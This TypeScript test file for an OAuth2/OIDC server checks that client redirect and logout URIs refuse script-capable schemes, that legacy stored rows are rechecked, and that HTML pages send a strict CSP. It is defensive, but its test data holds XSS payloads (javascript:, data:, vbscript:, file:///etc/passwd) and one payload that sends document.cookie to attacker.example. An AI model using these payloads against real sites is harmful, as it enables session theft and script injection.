/**
 * Script URLs never reach an HTML page: every client URI field refuses script-capable and unknown
 * schemes on create, PUT, PATCH and dynamic registration; stored rows written before the rule are
 * checked again at use; every HTML page carries a strict CSP and the other security headers.
 */
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer, whenNotified } from '../../helpers/apps.ts';
import { call } from '../../helpers/clients.ts';
import { acceptLogout, rememberedLogin } from '../../helpers/logout.ts';
import { adminApi, authorizeUrl, Browser, CB, codeFlowUrl, createClient, param } from '../../helpers/oauth2.ts';

const SCRIPTY = [
  'javascript:alert(document.domain)//',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'JaVaScRiPt:alert(1)',
  'myapp:/cb', // a custom scheme that is not a reverse domain name
];

let t: TestServer;
let existing: string;
beforeAll(async () => {
  t = await startTestServer({
    overrides: { dev: false, 'oidc.dynamic_client_registration.enabled': true },
  });
  existing = (await call(t.adminUrl, 'POST', '/admin/clients', { redirect_uris: [CB] })).body.client_id;
});
afterAll(async () => t?.close());

const writes = (body: Record<string, unknown>) => ({
  create: () => call(t.adminUrl, 'POST', '/admin/clients', body),
  put: () => call(t.adminUrl, 'PUT', `/admin/clients/${existing}`, { redirect_uris: [CB], ...body }),
  patch: () =>
    call(
      t.adminUrl,
      'PATCH',
      `/admin/clients/${existing}`,
      Object.entries(body).map(([k, value]) => ({ op: 'replace', path: `/${k}`, value })),
    ),
  register: () => call(t.publicUrl, 'POST', '/oauth2/register', body),
});

async function expectRefusedEverywhere(body: Record<string, unknown>, code: string) {
  const before = (await call(t.adminUrl, 'GET', `/admin/clients/${existing}`)).body;
  for (const [op, run] of Object.entries(writes(body))) {
    const r = await run();
    expect(r.status, `${op} ${JSON.stringify(body)}`).toBe(400);
    expect(r.body.error, op).toBe(code);
  }
  expect((await call(t.adminUrl, 'GET', `/admin/clients/${existing}`)).body).toEqual(before);
}

describe('client URI schemes', () => {
  for (const bad of SCRIPTY) {
    it(`refuses redirect_uris=${bad}`, async () => {
      await expectRefusedEverywhere({ redirect_uris: [bad] }, 'invalid_redirect_uri');
    });
    it(`refuses ${bad} in frontchannel_logout_uri, backchannel_logout_uri, jwks_uri and request_uris`, async () => {
      for (const field of ['frontchannel_logout_uri', 'backchannel_logout_uri', 'jwks_uri']) {
        await expectRefusedEverywhere({ [field]: bad }, 'invalid_client_metadata');
      }
      await expectRefusedEverywhere({ request_uris: [bad] }, 'invalid_client_metadata');
    });
  }

  it('refuses a javascript: post_logout_redirect_uri even beside a matching redirect URI', async () => {
    // Before the fix, a javascript: redirect URI beside it made the scheme/host/port comparison pass.
    const r = await call(t.adminUrl, 'POST', '/admin/clients', {
      redirect_uris: ['javascript:alert(1)//'],
      post_logout_redirect_uris: ['javascript:alert(2)//'],
    });
    expect(r.status).toBe(400);
    await expectRefusedEverywhere(
      { redirect_uris: [CB], post_logout_redirect_uris: ['javascript:alert(2)//'] },
      'invalid_client_metadata',
    );
  });

  it('refuses http for a non-loopback host outside dev mode (redirect and front-channel URIs)', async () => {
    await expectRefusedEverywhere({ redirect_uris: ['http://rp.example/cb'] }, 'invalid_redirect_uri');
    await expectRefusedEverywhere({ frontchannel_logout_uri: 'http://rp.example/fc' }, 'invalid_client_metadata');
  });

  it('accepts https, http on loopback and localhost, and private-use reverse-domain schemes', async () => {
    const ok = [
      'https://rp.example/cb',
      'http://127.0.0.1:8080/cb',
      'http://[::1]/cb',
      'http://localhost/cb',
      'http://app.localhost/cb',
      'com.example.app:/oauth2redirect',
    ];
    for (const [op, run] of Object.entries(
      writes({
        redirect_uris: ok,
        post_logout_redirect_uris: ['com.example.app:/bye', 'https://rp.example/bye'],
        frontchannel_logout_uri: 'https://rp.example/fc',
        jwks_uri: 'http://keys.example/jwks.json',
      }),
    )) {
      const r = await run();
      expect(r.status, `${op} ${JSON.stringify(r.body)}`).toBeLessThan(300);
    }
  });
});

/** Writes a URI into a stored row directly, as a row created before the rule would hold it. */
async function storeRaw(id: string, column: 'redirect_uris' | 'post_logout_redirect_uris', value: string[]) {
  await whenNotified(t, 'client', () =>
    sql`update oauth2_clients set ${sql.ref(column)} = ${JSON.stringify(value)}::jsonb where id = ${id}`.execute(
      t.container.db,
    ),
  );
}
async function storeFrontchannel(id: string, value: string) {
  await whenNotified(t, 'client', () =>
    sql`update oauth2_clients set frontchannel_logout_uri = ${value} where id = ${id}`.execute(t.container.db),
  );
}

function expectSecurityHeaders(res: Response) {
  const csp = res.headers.get('content-security-policy') ?? '';
  expect(csp).toMatch(/default-src 'none'/);
  expect(csp).toMatch(/script-src 'nonce-[A-Za-z0-9+/=]{16,}'/);
  expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
  expect(csp).toMatch(/frame-ancestors 'none'/);
  expect(csp).toMatch(/base-uri 'none'/);
  expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  expect(res.headers.get('referrer-policy')).toBe('no-referrer');
  expect(res.headers.get('x-frame-options')).toBe('DENY');
  return csp;
}

/** Every inline script of the page carries the nonce of the CSP; there are no inline handlers. */
function expectNoncedScripts(html: string, csp: string) {
  const nonce = /'nonce-([^']+)'/.exec(csp)?.[1];
  expect(nonce).toBeTruthy();
  const scripts = [...html.matchAll(/<script([^>]*)>/g)];
  expect(scripts.length).toBeGreaterThan(0);
  for (const m of scripts) expect(m[1]).toBe(` nonce="${nonce}"`);
  expect(html).not.toMatch(/\son[a-z]+=/i);
  expect(html).not.toMatch(/javascript:/i);
}

/** Login and consent for `url`; returns the response the consent verifier gets (the form_post page). */
async function finalResponse(url: string) {
  const api = adminApi(t);
  const browser = new Browser();
  const start = await browser.get(url);
  const loginChallenge = param(start.location, 'login_challenge');
  if (!loginChallenge) return start;
  const login = await api.acceptOAuth2LoginRequest({ loginChallenge, acceptOAuth2LoginRequest: { subject: 'alice' } });
  const afterLogin = await browser.get(login.data.redirect_to);
  const consentChallenge = param(afterLogin.location, 'consent_challenge');
  if (!consentChallenge) return afterLogin;
  const consent = await api.acceptOAuth2ConsentRequest({
    consentChallenge,
    acceptOAuth2ConsentRequest: { grant_scope: ['openid'] },
  });
  return browser.get(consent.data.redirect_to);
}

describe('HTML pages', () => {
  it('form_post: a nonce CSP, form-action only the redirect URI origin, the security headers', async () => {
    const client = await createClient(t, { redirect_uris: ['https://rp.example/cb'] });
    const url = codeFlowUrl(t, client, 'openid', { response_mode: 'form_post', redirect_uri: 'https://rp.example/cb' });
    const page = await finalResponse(url);
    expect(page.status).toBe(200);
    const csp = expectSecurityHeaders(page.res);
    expect(csp).toMatch(/form-action https:\/\/rp\.example(;|$)/);
    expect(csp).toMatch(/frame-src 'none'/);
    const html = await page.res.text();
    expect(html).toContain('action="https://rp.example/cb"');
    expectNoncedScripts(html, csp);
  });

  it('a stored javascript: redirect URI (written before the rule) is never rendered or redirected to', async () => {
    const client = await createClient(t, { redirect_uris: ['https://rp.example/cb'] });
    const evil = 'javascript:fetch(`//attacker.example/`+document.cookie)//';
    await storeRaw(client.client_id, 'redirect_uris', [evil]);
    for (const mode of ['form_post', 'query', 'fragment']) {
      const r = await finalResponse(codeFlowUrl(t, client, 'openid', { response_mode: mode, redirect_uri: evil }));
      expect(r.status, mode).toBe(302);
      expect(r.location, mode).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/oauth2\/fallbacks\/error\?/);
      expect(r.location).not.toContain('javascript');
    }
    // Omitting redirect_uri with one registered URI takes the stored one: refused too.
    const omitted = await new Browser().get(
      authorizeUrl(t, { client_id: client.client_id, response_type: 'code', scope: 'offline', state: 'abcdefghij' }),
    );
    expect(omitted.status).toBe(302);
    expect(omitted.location).toMatch(/fallbacks\/error/);
  });

  it('front-channel logout page: frames only the RP logout origins, scripts by nonce, the headers', async () => {
    const client = await createClient(t, {
      redirect_uris: [CB, 'https://rp.example/cb'],
      post_logout_redirect_uris: ['https://rp.example/bye'],
      frontchannel_logout_uri: 'https://fc.example/logout',
    });
    const bystander = await createClient(t, { frontchannel_logout_uri: 'https://other.example/fc' });
    expect(bystander.client_id).toBeTruthy();
    const browser = new Browser();
    const { idToken } = await rememberedLogin(t, browser, client);
    const start = await browser.get(
      `${t.publicUrl}/oauth2/sessions/logout?${new URLSearchParams({ id_token_hint: idToken, post_logout_redirect_uri: 'https://rp.example/bye' })}`,
    );
    const done = await acceptLogout(t, browser, start.location);
    expect(done.status).toBe(200);
    const csp = expectSecurityHeaders(done.res);
    expect(csp).toMatch(/frame-src https:\/\/fc\.example(;|$)/);
    expect(csp).toMatch(/form-action 'none'/);
    const html = await done.res.text();
    expectNoncedScripts(html, csp);
    expect(html).toContain('<iframe src="https://fc.example/logout?');
  });

  it('a stored javascript: front-channel or post-logout URI is not rendered', async () => {
    const client = await createClient(t, {
      redirect_uris: [CB, 'https://rp.example/cb'],
      post_logout_redirect_uris: ['https://rp.example/bye'],
      frontchannel_logout_uri: 'https://fc.example/logout',
    });
    const browser = new Browser();
    const { idToken } = await rememberedLogin(t, browser, client);
    await storeRaw(client.client_id, 'post_logout_redirect_uris', ['javascript:alert(1)//']);
    const refused = await browser.get(
      `${t.publicUrl}/oauth2/sessions/logout?${new URLSearchParams({ id_token_hint: idToken, post_logout_redirect_uri: 'javascript:alert(1)//' })}`,
    );
    expect(refused.status).toBe(302);
    expect(refused.location).toMatch(/fallbacks\/error\?error=invalid_request/);

    await storeFrontchannel(client.client_id, 'javascript:alert(document.domain)//');
    const start = await browser.get(`${t.publicUrl}/oauth2/sessions/logout?id_token_hint=${idToken}`);
    const done = await acceptLogout(t, browser, start.location);
    // No front-channel URL is left, so no page: straight to the post-logout URL.
    expect(done.status).toBe(302);
    expect(done.location).not.toContain('javascript');
  });

  it('fallback pages carry the CSP and headers', async () => {
    for (const path of [
      '/oauth2/fallbacks/login',
      '/oauth2/fallbacks/consent',
      '/oauth2/fallbacks/logout',
      '/oauth2/fallbacks/logout/callback',
      '/oauth2/fallbacks/error?error=x&error_description=%3Cscript%3Ealert(1)%3C/script%3E',
    ]) {
      const res = await fetch(`${t.publicUrl}${path}`);
      expect(res.headers.get('content-type'), path).toMatch(/^text\/html/);
      const csp = expectSecurityHeaders(res);
      expect(csp).toMatch(/form-action 'none'/);
      const html = await res.text();
      expect(html).not.toContain('<script>alert(1)');
    }
  });
});
